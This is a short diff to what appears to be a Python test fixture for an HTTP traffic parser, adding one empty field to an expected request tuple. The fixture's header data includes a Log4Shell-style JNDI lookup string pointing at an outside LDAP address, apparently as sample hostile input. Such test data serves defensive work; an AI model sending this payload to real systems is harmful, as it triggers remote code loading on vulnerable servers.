@@ -18,7 +18,7 @@ FORM = "application/x-www-form-urlencoded"
 ODD = (("x-api-version", "${jndi:ldap://198.51.100.7/a}"),)
 PATH = "/shop/login?id=1"
 EXPECTED = [
-    ("HttpRequest", "POST", "127.0.0.1", PATH, "curl/8.14.1", "", "", "", FORM, 7, False, FIELDS, "", ODD, ""),
+    ("HttpRequest", "POST", "127.0.0.1", PATH, "curl/8.14.1", "", "", "", FORM, 7, False, FIELDS, "", ODD, "", ""),
     ("HttpBody", "POST", "127.0.0.1", PATH, "curl/8.14.1", FIELDS, "uname=word:1", ()),
     ("HttpResponse", 200, "nginx/1.26.3", "text/html", 2, (), "", "", "POST", PATH, False, False),
 ]
